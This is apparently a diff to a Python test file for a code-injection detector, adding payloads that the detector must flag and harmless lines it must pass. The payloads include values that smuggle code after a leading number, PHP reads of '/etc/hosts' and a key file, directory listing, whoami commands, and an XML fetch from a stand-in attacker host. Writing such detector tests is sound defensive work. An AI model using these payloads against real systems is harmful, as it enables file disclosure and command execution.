@@ -51,6 +51,12 @@ WORDS = "a small red boat waits near our harbour since Monday "
         "'```';__import__('subprocess').run('whoami')",
         "from os import system as s;s('whoami')",
         "from subprocess import *\nfrom os import popen as p\np('whoami')",
+        # Behind the number that a value begins with, and as a part of a statement
+        "1;time.sleep(5)",
+        "7); Thread.sleep(9000)",
+        "$a=new DirectoryIterator('/');foreach($a as $b)echo $b;",
+        "return new SplFileObject('/etc/hosts');",
+        "return new SimpleXMLElement('http://attacker.example/a.xml',2,true);",
         # Outside of the marks that a server looks for
         f"{WORDS}<?php readfile('/srv/a.key'); ?> {WORDS}",
         f"{WORDS}<?= file_get_contents('/srv/a.key') ?> {WORDS}",
@@ -85,6 +91,8 @@ def test_words_do_not_spare_code(text: str) -> None:
         "Мы больше не используем os.system('ls') в наших программах",
         "Dear all,\nplease replace\nos.system('ls')\nby something better, thank you",
         "The value of $f(x)$ is always positive",
+        "$client = new SoapClient($wsdl);",
+        "$rows = new SplFileObject($path);",
         "from os import path\nprint(path.join('a', 'b'))",
         "$effect(() => { count += 1 })",
         "Look at this:\n\n```python\nimport subprocess\nsubprocess.run(args)\n```\nIt hangs.",
